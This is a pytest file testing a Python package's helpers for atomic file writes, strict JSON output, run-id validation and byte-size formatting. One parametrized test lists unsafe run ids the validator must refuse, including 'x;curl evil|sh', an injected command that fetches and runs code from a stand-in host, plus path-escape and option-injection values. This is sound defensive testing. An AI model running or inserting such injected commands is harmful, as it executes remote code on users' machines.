"""The shared helpers every writer uses: atomic files, strict JSON, run ids."""

from __future__ import annotations

import json
import math
import os
from pathlib import Path

import pytest

from ups import jsonio
from ups.fsio import atomic_open, atomic_symlink, atomic_write_text
from ups.runid import new_run_id, run_id_problem, validate_run_id


def test_atomic_write_replaces_and_leaves_no_temp(tmp_path: Path) -> None:
    """A finished write replaces the file whole; no temporary file stays behind."""
    target = tmp_path / "outcome.json"
    target.write_text("old")
    atomic_write_text(target, "new")
    assert target.read_text() == "new"
    assert [p.name for p in tmp_path.iterdir()] == ["outcome.json"]


def test_atomic_write_error_keeps_old_file_and_removes_temp(tmp_path: Path) -> None:
    """An error mid-write (here raised by the writer) keeps the old file and removes the temp."""
    target = tmp_path / "state.bin"
    target.write_bytes(b"old")
    with pytest.raises(OSError, match="disk full"), atomic_open(target) as f:
        f.write(b"partial")
        raise OSError(28, "disk full")
    assert target.read_bytes() == b"old"
    assert [p.name for p in tmp_path.iterdir()] == ["state.bin"]


def test_atomic_write_mode_applies_at_creation(tmp_path: Path) -> None:
    """Secrets are 0600 from the first byte."""
    target = tmp_path / "secrets.env"
    atomic_write_text(target, "K=V\n", mode=0o600)
    assert (target.stat().st_mode & 0o777) == 0o600


def test_atomic_symlink_replaces_link(tmp_path: Path) -> None:
    """The latest link moves to the new run in one rename."""
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    link = tmp_path / "latest"
    atomic_symlink(link, "a")
    atomic_symlink(link, "b")
    assert os.readlink(link) == "b"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a", "b", "latest"]


def test_strict_json_never_writes_bare_nan() -> None:
    """NaN and infinities become strings; the output parses under a strict parser."""
    text = jsonio.dumps({"loss": math.nan, "nested": [math.inf, -math.inf, 1.5], "ok": 2})

    def refuse(name: str) -> None:
        raise ValueError(f"bare {name} in output")

    data = json.loads(text, parse_constant=refuse)
    assert data == {"loss": "NaN", "nested": ["Infinity", "-Infinity", 1.5], "ok": 2}


def test_strict_json_numpy_like_scalars() -> None:
    """Tensor and numpy scalars are written as numbers, non-finite ones as strings."""
    torch = pytest.importorskip("torch")
    text = jsonio.dumps({"a": torch.tensor(0.5), "b": torch.tensor(float("nan"))})
    assert json.loads(text) == {"a": 0.5, "b": "NaN"}


def test_run_ids_are_unique_within_a_second_and_valid() -> None:
    """Two ids made in the same second differ, and every generated id passes validation."""
    ids = {new_run_id("demo run/../x") for _ in range(50)}
    assert len(ids) > 40
    for run_id in ids:
        assert validate_run_id(run_id) == run_id


@pytest.mark.parametrize("bad", ["x;curl evil|sh", "../x", "a/b", "", "-rf", "a..b", "x" * 129])
def test_run_id_validation_refuses_unsafe_names(bad: str) -> None:
    """Shell metacharacters, path escapes and oversize names are refused with the rule."""
    problem = run_id_problem(bad)
    assert problem is not None and "letters, digits" in problem


def test_human_bytes_never_writes_scientific_notation() -> None:
    """Sizes and rates read as people write them, also just below the next unit."""
    from ups.console.units import human_bytes

    assert human_bytes(1000 * 1024**2) == "1000 MiB"  # was "1e+03 MiB"
    assert human_bytes(1023.9 * 1024**2) == "1024 MiB"
    assert human_bytes(1.5 * 1024**3) == "1.5 GiB"
    assert human_bytes(123.4 * 1024) == "123 KiB"
    assert human_bytes(12.34 * 1024**2) == "12.3 MiB"
    assert human_bytes(512) == "512 B"
